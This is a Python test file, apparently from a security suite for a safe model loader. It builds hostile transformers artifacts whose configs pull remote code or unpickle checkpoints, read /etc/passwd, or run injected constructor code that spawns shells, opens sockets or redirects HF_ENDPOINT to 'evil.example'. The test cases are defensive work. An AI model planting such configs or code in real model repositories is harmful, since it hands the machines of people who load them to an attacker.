"""Attacks that name no class of their own.

A config, an argument or agreed code steers what builds the model.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

from artifacts import rewrite
from attacks.hostile import MODULE, SOURCE, Target, attack

MODELS = "transformers.models"
DEPTH = (
    "depth_anything.modeling_depth_anything:DepthAnythingForDepthEstimation",
    "depth_anything.configuration_depth_anything:DepthAnythingConfig",
)
CTC = (
    "wav2vec2.modeling_wav2vec2:Wav2Vec2ForCTC",
    "wav2vec2.configuration_wav2vec2:Wav2Vec2Config",
)
SMALL = {
    "hidden_size": 16,
    "num_hidden_layers": 1,
    "num_attention_heads": 2,
    "num_conv_pos_embedding_groups": 2,
}


def become(
    target: Target, names: tuple[str, str], config: Any, arguments: Mapping[str, Any] | None = None
) -> None:
    """Make it an artifact of another class of transformers."""
    cls, config_class = (f"{MODELS}.{name}" for name in names)
    rewrite(target.config, json.dumps(config))
    target.structure_of(
        **{"class": cls, "config_class": config_class, "arguments": arguments or {}},
        attn_implementation={},
        experts_implementation={},
    )


def steered(
    name: str, doc: str, config: Any, names: tuple[str, str] = DEPTH, verdict: str = "TrustError"
) -> None:
    """The config of an artifact of some class of transformers."""

    def damage(target: Target) -> None:
        rewrite(
            target.code / "evil.py",
            target.payload + "import torch\nclass B(torch.nn.Module): pass\n",
        )
        become(target, names, json.loads(json.dumps(config).replace("CODE", str(target.code))))

    damage.__name__, damage.__doc__ = name, doc
    attack(verdict)(damage)


NESTED = {"model_type": "bert", "auto_map": {"AutoBackbone": "evil.B"}, "_name_or_path": "CODE"}
steered(
    "steer_backbone",
    "a backbone is that of a repository",
    {"backbone": "evil/repo", "backbone_config": None},
)
steered(
    "steer_nested_code",
    "auto_map in the config of a part: asks on the terminal",
    {"backbone_config": NESTED},
)
steered("steer_nested_code_in_a_list", "the same, in a list", {"parts": [{"of": [NESTED]}]})
steered("steer_folder", "a config says that its weights are in a folder", {"_name_or_path": "CODE"})
steered("steer_repository_of_a_part", "the config of a part names a repository",
        {"backbone_config": {"model_type": "bit", "_name_or_path": "evil/repo"}})  # fmt: skip
steered("steer_pretrained", "a backbone is to be fetched with its weights",
        {"backbone": "resnet50", "use_pretrained_backbone": True,
            "backbone_config": None})  # fmt: skip
steered("steer_timm_repository", "timm's name of a model is a repository",
        {"backbone_config": {"model_type": "timm_backbone",
            "backbone": "hf-hub:evil/repo"}})  # fmt: skip
steered("steer_timm_folder", "timm's name of a model is a folder",
        {"backbone_config": {"model_type": "timm_wrapper",
            "architecture": "local-dir:CODE"}})  # fmt: skip
steered("steer_timm_pickle", "timm unpickles a checkpoint that the arguments of a part name",
        {"backbone_config": {"model_type": "timm_wrapper", "architecture": "resnet18",
                             "model_args": {"checkpoint_path": "CODE/weights.pth"}}})  # fmt: skip
steered("steer_timm_class", "the class is one that nobody has proven: timm's own loader",
        {"architecture": "resnet18"},
        ("timm_wrapper.modeling_timm_wrapper:TimmWrapperModel",
         "timm_wrapper.configuration_timm_wrapper:TimmWrapperConfig"),
         "StructureError")  # fmt: skip
steered("steer_unproven_class", "the class is one that nobody has proven", {},
        ("longformer.modeling_longformer:LongformerForMultipleChoice",
         "longformer.configuration_longformer:LongformerConfig"), "StructureError")  # fmt: skip
steered("steer_pipelines", "a config names the code of a pipeline",
        {"custom_pipelines": {"text-classification": {"impl": "evil.B",
            "pt": ["AutoModel"]}}})  # fmt: skip
steered("steer_index", "a config names a file that a class reads", {"index_path": "CODE/index.pkl"})
steered("steer_language", "the adapter of a language is fetched from a repository",
        {**SMALL, "_name_or_path": "evil/repo", "adapter_attn_dim": 2, "target_lang": "eng"},
        CTC)  # fmt: skip


@attack("IntegrityError")
def steer_by_an_argument(target):
    """an argument that is no flag: the language whose adapter is fetched"""
    become(target, CTC, {**SMALL, "adapter_attn_dim": 2}, {"target_lang": {"value": "eng"}})


@attack("StructureError")
def steer_by_a_flag(target):
    """a flag in the place of an argument that is none"""
    become(target, CTC, SMALL, {"config": {"value": True}})


@attack("IntegrityError")
def steer_by_a_config_as_argument(target):
    """an argument that is a config of its own"""
    config = {"config_class": f"{MODELS}.{DEPTH[1]}", "config": {"backbone_config": NESTED}}
    become(target, CTC, SMALL, {"target_lang": config})


@attack("TrustError", None, then=lambda model: model.tokenizer)
def tokenizer_names_a_file(target):
    """tokenizer_config.json names a vocabulary elsewhere"""
    target.json(target.tokenizer_config, lambda old: old | {"vocab_file": "/etc/passwd"})


@attack("IntegrityError", None, then=lambda model: model.tokenizer)
def tokenizer_has_a_config_of_its_own(target):
    """a config.json beside the tokenizer, which AutoTokenizer would ask for a class"""
    rewrite(
        target.tokenizer / "config.json",
        json.dumps({"auto_map": {"AutoTokenizer": ["evil.T", "evil.T"]}}),
    )
    target.reseal()


@attack("TrustError", None, then=lambda model: model.processor)
def processor_names_a_file(target):
    """the processor reads a list of classes from a repository, or a file of its choice"""
    target.processor.mkdir()
    content = {
        "image_processor_type": "OneFormerImageProcessor",
        "class_info_file": "passwd",
        "repo_path": "/etc",
    }
    rewrite(target.processor / "preprocessor_config.json", json.dumps(content))
    target.reseal()


# Code that somebody agreed to run, which is no reason to let it do everything.


def agreed(name: str, doc: str, source: str, *, swallowed: bool = False) -> None:
    """The constructor of the artifact's own class does something."""

    def damage(target: Target) -> None:
        does = source.replace("CANARY", repr(str(target.canary)))
        if swallowed:
            does = f"try:\n            {does}\n        except Exception: pass"
        changed = SOURCE.replace("super().__init__()", f"super().__init__()\n        {does}")
        rewrite(target.code / f"{MODULE}.py", changed)
        target.reseal()

    damage.__name__, damage.__doc__ = name, doc
    attack("TrustError", base="coded", options={"trust": {"code"}})(damage)


agreed("agreed_writes", "code that was agreed to writes a file", "open(CANARY, 'w')")
agreed(
    "agreed_swallows", "the same, and nothing is said of it", "open(CANARY, 'w')", swallowed=True
)
agreed("agreed_process", "code that was agreed to starts a program",
       "import subprocess; subprocess.run(['touch', CANARY])")  # fmt: skip
agreed("agreed_shell", "the same in a shell, and nothing is said of it",
       "import os; os.system('touch ' + CANARY)", swallowed=True)  # fmt: skip
agreed("agreed_socket", "code that was agreed to opens a connection",
       "import socket; exec(\"with socket.socket(socket.AF_UNIX) as s: "
       "s.connect('x')\")", swallowed=True)  # fmt: skip
agreed("agreed_lookup", "code that was agreed to tells a name server something",
       "import socket; socket.getaddrinfo('secret.example', 80)", swallowed=True)  # fmt: skip
agreed(
    "agreed_terminal",
    "code that was agreed to asks on the terminal",
    "input('password: ')",
    swallowed=True,
)
agreed(
    "agreed_reads",
    "code that was agreed to reads a file of the user",
    "open('/etc/passwd')",
    swallowed=True,
)
agreed("agreed_variable", "code that was agreed to sets a variable of the process",
       "import os; os.putenv('HF_ENDPOINT', 'http://evil.example')")  # fmt: skip
